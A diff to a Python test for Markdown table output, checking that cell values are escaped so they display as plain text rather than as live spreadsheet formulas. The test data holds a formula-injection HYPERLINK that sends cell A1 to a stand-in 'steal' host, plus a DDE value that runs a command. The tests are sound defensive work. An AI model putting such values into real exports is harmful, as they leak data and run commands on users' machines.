@@ -99,10 +99,18 @@ def test_markdown_shows_text_as_text(hostile: Path) -> None:
     )
     assert result.exit_code == 0, result.output
     row = next(line for line in result.stdout.splitlines() if line.startswith("| S01 |"))
-    # not a formula when pasted into a spreadsheet, and no live Markdown or HTML
-    assert '| \'=HYPERLINK("http://example.invalid/steal?d="\\&A1,"Click for details") |' in row
+    # not a formula when pasted into a spreadsheet (Markdown's backslash escapes the
+    # lead), and no live Markdown or HTML
+    assert '| \\=HYPERLINK("http://example.invalid/steal?d="\\&A1,"Click for details") |' in row
     s02 = next(line for line in result.stdout.splitlines() if line.startswith("| S02 |"))
-    assert "'+1+cmd\\|' /C calc'!A0" in s02
+    assert "| \\+1+cmd\\|' /C calc'!A0 |" in s02
+    # Rendered, the table shows the text exactly as the data has it: the escapes vanish.
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark").enable("table").render(result.stdout)
+    link = "=HYPERLINK(&quot;http://example.invalid/steal?d=&quot;&amp;A1,&quot;Click for details&quot;)"
+    assert f"<td>{link}</td>" in html
+    assert "<td>+1+cmd|' /C calc'!A0</td>" in html
 
 
 def test_markdown_escapes_links_and_html() -> None:
